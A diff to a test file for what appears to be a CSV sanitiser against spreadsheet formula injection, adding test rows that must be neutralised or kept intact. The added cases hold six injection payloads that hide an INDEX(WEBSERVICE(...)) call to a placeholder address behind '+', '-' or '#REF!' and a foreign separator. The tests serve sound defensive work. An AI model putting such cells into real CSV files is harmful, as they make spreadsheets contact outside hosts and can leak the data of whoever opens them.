@@ -175,6 +175,18 @@ describe('a CSV', () => {
     }
   })
 
+  test.each([
+    [';', `+1:1,INDEX(WEBSERVICE("${address}"),1)`],
+    [',', `+1:1;INDEX(WEBSERVICE("${address}");1)`],
+    [',', `"-1:1;INDEX(WEBSERVICE(""${address}"");1)"`],
+    [',', `-$A$1;INDEX(WEBSERVICE("${address}");1)`],
+    [',', `+(A:A;INDEX(WEBSERVICE("${address}");1))`],
+    [',', `+#REF!;INDEX(WEBSERVICE("${address}");1)`],
+  ])('calls nobody where another separator than its own (%s) joins a call to a cell: %s', async (separator, cell) => {
+    const table = (last: string) => `sep=${separator}\nPrecio${separator}${last}\n`
+    expect((await copyOf(table(cell))).csv).toBe(table(cell.replace(/[+-]/, "'$&")))
+  })
+
   test('keeps its numbers, telephones, plain texts and sums of cells, in its encoding, byte for byte', async () => {
     const rows = [
       ['Ítem', 'Precio', 'Nota'],
@@ -182,6 +194,7 @@ describe('a CSV', () => {
       ['+598 99 123 456', '"-5 %"', '+ IVA'],
       ['=B2*C2', '-', '-----'],
       ['Caño', '- (5)', 'según lámina: ver (2)'],
+      ['-10:30', '-A2', '+ flete'],
     ]
     for (const [separator, encoding] of [
       [';', 'utf8'],
